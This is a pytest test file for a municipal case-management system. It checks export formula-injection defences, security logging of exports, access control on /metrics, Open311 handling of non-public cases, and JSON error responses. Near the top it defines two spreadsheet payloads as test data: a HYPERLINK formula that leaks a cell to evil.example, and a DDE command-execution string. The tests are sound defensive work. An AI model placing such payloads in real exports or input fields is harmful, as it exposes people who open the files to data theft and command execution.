"""Issue 11, defects 3 and 13 and four items of 14: spreadsheet formulas in exports, exports in the security
log, /metrics behind a token (or loopback), Open311 updates to a case that is not public yet, and JSON errors
for the pages' JSON endpoints."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pytest
from openpyxl import load_workbook
from sqlalchemy import func, select
from sqlalchemy.orm import Session
from starlette.testclient import TestClient
from typer.testing import CliRunner

from builders import advance, auth, grid_point, make_case  # type: ignore[import-not-found]
from civicgrid.models import CaseEvent, SecurityEvent, User

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"查看照片")'
EVIL_ADDRESS = "@SUM(1+1)*cmd|' /C calc'!A0"
T0 = datetime(2026, 3, 2, 1, 0, tzinfo=UTC)  # 09:00 local


def _evil_case(session: Session) -> str:
    case = make_case(
        session,
        category="E0102",
        point=grid_point(session, 0),
        description=EVIL,
        address=EVIL_ADDRESS,
        now=T0,
    )
    advance(
        session,
        case,
        [("register", "shiftlead", {}), ("dispatch", "dispatcher", {"department_code": "HW"})],
        now=T0.replace(minute=10),
    )
    return case.number


def _exports(session: Session) -> list[SecurityEvent]:
    return list(session.scalars(select(SecurityEvent).where(SecurityEvent.kind == "export")))


def _user_id(session: Session, username: str) -> int:
    uid = session.scalar(select(User.id).where(User.username == username))
    assert uid is not None
    return uid


# --- Defect 3: formula injection ----------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("=1+1", "'=1+1"),
        ("+86 138", "'+86 138"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("路面=坑洼", "路面=坑洼"),
        ("-3", "-3"),
        ("+0.5", "+0.5"),
        ("", ""),
    ],
)
def test_csv_cells_are_neutralised_and_numbers_stay(text: str, shown: str) -> None:
    from civicgrid.security.cells import csv_value

    assert csv_value(text) == shown
    assert csv_value(-7) == -7 and csv_value(2.5) == 2.5 and csv_value(None) == ""


def test_csv_export_shows_a_formula_as_text(client: Any, session: Session) -> None:
    number = _evil_case(session)
    r = client.get("/api/v1/exports/cases?format=csv", headers=auth(session, "leader"))
    assert r.status_code == 200
    rows = list(csv.reader(io.StringIO(r.content.decode("utf-8-sig"))))
    row = next(dict(zip(rows[0], x, strict=True)) for x in rows[1:] if x[0] == number)
    assert row["问题描述"] == "'" + EVIL
    assert row["地址"] == "'" + EVIL_ADDRESS
    assert (row["返工次数"], row["处置部门代码"]) == ("0", "HW")
    for cells in rows:
        assert not any(c.startswith(("=", "+", "-", "@", "\t", "\r")) for c in cells)


def test_xlsx_export_writes_the_formula_as_a_string_cell(client: Any, session: Session) -> None:
    number = _evil_case(session)
    r = client.get("/api/v1/exports/cases?format=xlsx", headers=auth(session, "leader"))
    assert r.status_code == 200
    ws = load_workbook(io.BytesIO(r.content)).active
    header = [c.value for c in ws[1]]
    row = next(line for line in ws.iter_rows(min_row=2) if line[0].value == number)
    cell = row[header.index("问题描述")]
    assert (cell.value, cell.data_type) == (EVIL, "s")
    cell = row[header.index("地址")]
    assert (cell.value, cell.data_type) == (EVIL_ADDRESS, "s")
    rework = row[header.index("返工次数")]
    assert (rework.value, rework.data_type) == (0, "n")
    assert not [c.coordinate for line in ws.iter_rows() for c in line if c.data_type == "f"]


def test_evaluation_workbooks_write_names_as_string_cells() -> None:
    from civicgrid.evaluation.period import parse_period
    from civicgrid.evaluation.report import MonthlyReport, RankedRow, Recurring, UnitSection
    from civicgrid.evaluation.service import Evaluation, EvaluationRow
    from civicgrid.evaluation.xlsx import evaluation_workbook, monthly_workbook

    period = parse_period("2026-10", "Asia/Shanghai")
    row = EvaluationRow(
        key="HW",
        name=EVIL,
        rank=1,
        score=91.5,
        grade="A",
        counts={"registered": 3},
        indicators={"close_rate": 0.5},
        stages={},
    )
    when = datetime(2026, 10, 9, 2, 0, tzinfo=UTC)
    report = MonthlyReport(
        period=period,
        previous=parse_period("2026-09", "Asia/Shanghai"),
        as_of=when,
        district=None,
        sections={"department": UnitSection("department", "专业部门", [RankedRow(row, 90.0, 2)])},
        recurring=[Recurring("32050800101", "+网格", "E0102", "-暴露垃圾", 3, when, when)],
    )
    monthly = load_workbook(io.BytesIO(monthly_workbook(report)))
    single = load_workbook(
        io.BytesIO(evaluation_workbook(Evaluation(period, "department", when, [row]), "专业部门"))
    )
    for wb in (monthly, single):
        cells = [c for ws in wb.worksheets for line in ws.iter_rows() for c in line if c.value is not None]
        assert not [c.coordinate for c in cells if c.data_type == "f"]
        texts = {c.value: c.data_type for c in cells if isinstance(c.value, str)}
        assert texts[EVIL] == "s"
        assert {c.value for c in cells if c.data_type == "n"} >= {91.5, 1}
    texts = {c.value: c.data_type for line in monthly["汇总"].iter_rows() for c in line}
    assert texts["+网格"] == texts["-暴露垃圾"] == "s"


# --- Defect 13: exports in the security log -----------------------------------------------------------------


def test_an_http_export_leaves_exactly_one_security_event(client: Any, session: Session) -> None:
    _evil_case(session)
    session.flush()
    before = len(_exports(session))
    r = client.get(
        "/api/v1/exports/cases",
        params={"format": "csv", "department": "HW", "state": "dispatched"},
        headers=auth(session, "leader"),
    )
    assert r.status_code == 200
    rows = len(r.content.decode("utf-8-sig").strip().splitlines()) - 1
    events = _exports(session)
    assert len(events) == before + 1
    ev = events[-1]
    assert (ev.user_id, ev.subject) == (_user_id(session, "leader"), "cases.csv")
    assert ev.data == {
        "what": "cases",
        "format": "csv",
        "filters": {"states": ["dispatched"], "department_code": "HW"},
        "rows": rows,
        "channel": "api",
        "username": "leader",
    }
    assert rows >= 1 and ev.ip == "testclient"
    # A refused export is no export: nothing recorded.
    r = client.get("/api/v1/exports/cases?format=pdf", headers=auth(session, "leader"))
    assert r.status_code == 422
    assert len(_exports(session)) == before + 1


def test_the_monthly_report_download_is_recorded(client: Any, session: Session) -> None:
    before = len(_exports(session))
    r = client.get(
        "/api/v1/reports/monthly",
        params={"period": "2026-10", "format": "xlsx", "as_of": "2026-11-10T00:00:00+08:00"},
        headers=auth(session, "leader"),
    )
    assert r.status_code == 200
    events = _exports(session)
    assert len(events) == before + 1
    data = events[-1].data
    assert (events[-1].user_id, data["what"], data["format"], data["channel"]) == (
        _user_id(session, "leader"),
        "monthly_report",
        "xlsx",
        "api",
    )
    assert data["filters"] == {"period": "2026-10", "as_of": "2026-11-10T00:00:00+08:00"}
    assert isinstance(data["rows"], int)


def test_a_cli_export_is_recorded(db: Any, tmp_path: Path) -> None:
    from civicgrid.cli import app as cli_app

    def newest() -> SecurityEvent | None:
        with Session(bind=db) as s:
            return s.scalar(select(SecurityEvent).order_by(SecurityEvent.id.desc()).limit(1))

    out = tmp_path / "cases.xlsx"
    result = CliRunner().invoke(
        cli_app, ["export", "cases", "--format", "xlsx", "--out", str(out), "--street", "320508001"]
    )
    assert result.exit_code == 0, result.output
    ev = newest()
    assert ev is not None and (ev.kind, ev.user_id, ev.subject) == ("export", None, "cases.xlsx")
    assert (ev.data["format"], ev.data["filters"], ev.data["channel"]) == (
        "xlsx",
        {"street_code": "320508001"},
        "cli",
    )
    assert ev.data["rows"] == load_workbook(out).active.max_row - 1
    assert ev.data["os_user"]


# --- Defect 14: /metrics ------------------------------------------------------------------------------------


def test_metrics_without_a_token_answer_only_loopback(client: Any) -> None:
    from civicgrid.settings import get_settings

    assert get_settings().metrics_token == ""
    r = client.get("/metrics")  # the test client's address is not loopback
    assert r.status_code == 403
    assert r.json()["detail"].startswith("监控指标只对本机开放")
    local = TestClient(client.app, client=("127.0.0.1", 40000))
    r = local.get("/metrics")
    assert r.status_code == 200 and "civicgrid_http_requests_total" in r.text
    assert TestClient(client.app, client=("::1", 40000)).get("/metrics").status_code == 200
    # Through a reverse proxy on this machine, the socket is loopback but the client is not.
    assert local.get("/metrics", headers={"X-Forwarded-For": "203.0.113.9"}).status_code == 403


def test_metrics_access_decisions() -> None:
    from civicgrid.ops.observe import metrics_access

    assert metrics_access("", None, "127.0.0.1", False) == "ok"
    assert metrics_access("", None, "::ffff:127.0.0.1", False) == "ok"  # a dual-stack socket
    assert metrics_access("", None, "::ffff:10.1.2.3", False) == "not_local"
    assert metrics_access("", None, "localhost", False) == "not_local"  # an address, never a name
    assert metrics_access("", None, "127.0.0.1", True) == "not_local"  # came through a proxy
    assert metrics_access("t0k", None, "127.0.0.1", False) == "missing"
    assert metrics_access("t0k", "Basic dDBrOg==", "10.0.0.1", False) == "missing"
    assert metrics_access("t0k", "Bearer t0", "10.0.0.1", False) == "wrong"
    assert metrics_access("t0k", "bearer t0k", "10.0.0.1", True) == "ok"


def test_metrics_with_a_token_need_it(client: Any, monkeypatch: pytest.MonkeyPatch) -> None:
    from civicgrid.settings import get_settings

    monkeypatch.setattr(get_settings(), "metrics_token", "s3cret-scrape")
    local = TestClient(client.app, client=("127.0.0.1", 40000))
    r = local.get("/metrics")  # even from this machine
    assert r.status_code == 401 and r.headers["www-authenticate"] == "Bearer"
    assert "令牌" in r.json()["detail"]
    r = client.get("/metrics", headers={"Authorization": "Bearer wrong"})
    assert r.status_code == 403 and r.json()["detail"] == "监控指标令牌不正确"
    r = client.get("/metrics", headers={"Authorization": "Bearer s3cret-scrape"})
    assert r.status_code == 200 and "civicgrid_cases_overdue" in r.text


# --- Defect 14: Open311 updates to a case that is not public yet --------------------------------------------


def test_open311_update_of_a_case_not_public_yet_is_an_unknown_request(client: Any, session: Session) -> None:
    from civicgrid.open311.keys import create_key

    key = create_key(session, "外部系统").key
    case = make_case(session, category="E0102")
    assert case.state == "received"
    session.flush()
    events = session.scalar(select(func.count()).select_from(CaseEvent).where(CaseEvent.case_id == case.id))
    security = session.scalar(select(func.count()).select_from(SecurityEvent))
    got = client.get(f"/open311/v2/requests/{case.number}.json")
    r = client.post(
        "/open311/v2/servicerequestupdates.json",
        data={"api_key": key, "service_request_id": case.number, "status": "FIXED", "description": "已处理"},
    )
    assert got.status_code == r.status_code == 404
    assert (
        r.json()
        == got.json()
        == [{"code": 404, "description": f"未找到服务请求（service_request_id）：{case.number}"}]
    )
    session.expire_all()
    assert case.state == "received"
    assert (
        session.scalar(select(func.count()).select_from(CaseEvent).where(CaseEvent.case_id == case.id))
        == events
    )
    assert session.scalar(select(func.count()).select_from(SecurityEvent)) == security


# --- Defect 14: the pages' JSON endpoints answer errors in JSON ---------------------------------------------


def test_suggest_errors_are_json_problems(client: Any) -> None:
    r = client.get("/web/api/suggest", params={"text": "井" * 4001})
    assert r.status_code == 422
    assert r.headers["content-type"] == "application/problem+json"
    body = r.json()
    assert (body["status"], body["type"], body["instance"]) == (
        422,
        "urn:civicgrid:problem:invalid_input",
        "/web/api/suggest",
    )
    assert body["detail"].startswith("query.text：")
    r = client.post("/web/api/suggest", json={"text": "井盖"})
    assert r.status_code == 405 and r.headers["content-type"] == "application/problem+json"
    assert r.json()["detail"] == "不支持 POST 方法"
    # A web page asked for by a JSON client gets a problem too; a browser still gets the friendly page.
    r = client.get("/web/nothing-here", headers={"Accept": "application/json"})
    assert r.status_code == 404 and r.headers["content-type"] == "application/problem+json"
    r = client.get("/web/nothing-here", headers={"Accept": "text/html,application/xhtml+xml"})
    assert r.status_code == 404 and r.headers["content-type"].startswith("text/html")
